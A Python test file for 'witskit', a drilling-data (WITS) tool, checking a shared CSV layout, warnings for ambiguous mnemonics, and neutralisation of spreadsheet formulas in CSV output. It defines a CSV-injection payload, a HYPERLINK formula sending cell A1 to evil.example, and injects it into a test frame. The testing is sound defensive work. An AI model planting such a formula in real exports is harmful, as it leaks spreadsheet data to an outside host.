"""One CSV layout everywhere, safe in a spreadsheet; ``--symbols`` says when a mnemonic is ambiguous."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from witskit.cli import app
from witskit.simulator import DrillingSimulator
from witskit.storage.formats import CSV_COLUMNS

runner = CliRunner()
LAYOUT = ["time", "source", "code", "mnemonic", "value", "text", "unit"]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


pytestmark = pytest.mark.usefixtures("data_dir")


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """Records 1, 2 and 8 (DBTM is 0108 and 0810), and a frame whose WID is a formula."""
    path = tmp_path / "rig.wits"
    evil = f"&&\r\n0101{EVIL}\r\n0105260101\r\n0106060000\r\n01083650.5\r\n!!\r\n".encode()
    path.write_bytes(evil + b"".join(DrillingSimulator(2, records=(1, 2, 8)).frames(20)))
    return path


def invoke(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


def rows_of(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text))
    assert reader.fieldnames == LAYOUT
    return list(reader)


def test_decode_stream_query_and_sink_write_one_layout(log: Path, tmp_path: Path) -> None:
    assert list(CSV_COLUMNS) == LAYOUT
    db = f"sqlite:///{tmp_path / 'w.db'}"
    assert invoke("import", str(log), "--db", db)[0] == 0
    code, decoded, _ = invoke("decode", str(log), "-f", "csv")
    assert code == 0
    code, streamed, err = invoke("stream", f"file://{log}", "-f", "csv")
    assert code == 0, err
    code, queried, err = invoke("query", "--db", db, "-f", "csv")
    assert code == 0, err
    sink = tmp_path / "sink.csv"
    code, _, err = invoke("stream", f"file://{log}", "--db", f"sqlite:///{tmp_path / 's.db'}", "-f", "jsonl")
    assert code == 0, err
    pipe = tmp_path / "pipe.yaml"
    pipe.write_text(f"sources:\n  - url: file://{log}\n    name: rig.wits\nsinks:\n  - url: csv://{sink}\n")
    code, _, err = invoke("stream", "--config", str(pipe), "-f", "jsonl")
    assert code == 0, err

    def key(row: dict[str, str]) -> tuple[str, ...]:
        return row["time"], row["code"], row["value"], row["text"], row["unit"]

    decoded_rows, queried_rows = rows_of(decoded), rows_of(queried)
    assert sorted(map(key, decoded_rows)) == sorted(map(key, queried_rows))
    assert len(rows_of(streamed)) == len(decoded_rows)
    assert sorted(map(key, rows_of(sink.read_text()))) == sorted(map(key, decoded_rows))
    depth = next(r for r in queried_rows if r["code"] == "0108")
    assert (depth["mnemonic"], depth["unit"], depth["text"]) == ("DBTM", "F", "")
    wid = next(r for r in queried_rows if r["code"] == "0101")
    assert wid["value"] == ""
    assert wid["text"]


def test_codes_stay_text_for_pandas_with_the_documented_dtype(log: Path, tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas")
    db = f"sqlite:///{tmp_path / 'w.db'}"
    invoke("import", str(log), "--db", db)
    out = tmp_path / "q.csv"
    assert invoke("query", "--db", db, "--symbols", "0108", "-f", "csv", "-o", str(out))[0] == 0
    frame = pd.read_csv(out, dtype={"code": str})
    assert set(frame["code"]) == {"0108"}
    assert list(frame.columns) == LAYOUT


def test_formula_cells_are_neutralised_in_every_csv(log: Path, tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'w.db'}"
    invoke("import", str(log), "--db", db)
    for argv in (["decode", str(log), "-f", "csv"], ["query", "--db", db, "--symbols", "0101", "-f", "csv"]):
        code, out, _ = invoke(*argv)
        assert code == 0
        texts = [r["text"] for r in rows_of(out) if r["code"] == "0101"]
        assert "'" + EVIL in texts, argv
        assert EVIL not in texts
        assert not any(cell.startswith(("=", "+", "@")) for r in rows_of(out) for cell in r.values())
    # JSON Lines keep the value as it was sent.
    code, out, _ = invoke("query", "--db", db, "--symbols", "0101", "-f", "jsonl")
    assert EVIL.replace('"', '\\"') in out


def test_an_ambiguous_mnemonic_names_its_channels_and_can_be_picked(log: Path, tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'w.db'}"
    invoke("import", str(log), "--db", db)
    code, out, err = invoke("query", "--db", db, "--symbols", "DBTM", "-f", "csv")
    assert code == 0
    assert {r["code"] for r in rows_of(out)} == {"0108", "0810"}
    warning = " ".join(err.split())
    assert "warning:" in warning
    assert "'DBTM' matches 2 channels: 0108" in warning
    assert "0810" in warning
    assert "01.DBTM" in warning
    for pick, wanted in (("01.DBTM", {"0108"}), ("08.DBTM", {"0810"}), ("0810", {"0810"})):
        code, out, err = invoke("query", "--db", db, "--symbols", pick, "-f", "csv")
        assert code == 0, err
        assert {r["code"] for r in rows_of(out)} == wanted
        assert "warning" not in err


def test_a_wide_frame_never_gives_two_channels_one_column(log: Path, tmp_path: Path) -> None:
    pytest.importorskip("pandas")
    from witskit.storage import to_dataframe

    db = f"sqlite:///{tmp_path / 'w.db'}"
    invoke("import", str(log), "--db", db)
    wide = to_dataframe(db, codes=["DBTM"], wide=True)
    columns = wide.columns.tolist()
    assert len(columns) == len(set(columns))
    assert {"0108", "0810"} <= set(columns)


def test_query_of_an_unknown_source_lists_the_known_ones(log: Path, tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'w.db'}"
    invoke("import", str(log), "--db", db)
    invoke("import", str(log), "--db", db, "--source", "rig-8")
    code, _, err = invoke("query", "--db", db, "--source", "rig-9")
    assert code == 2
    line = " ".join(err.split())
    assert "no source named 'rig-9'" in line
    assert "rig-8" in line
    assert "rig.wits" in line
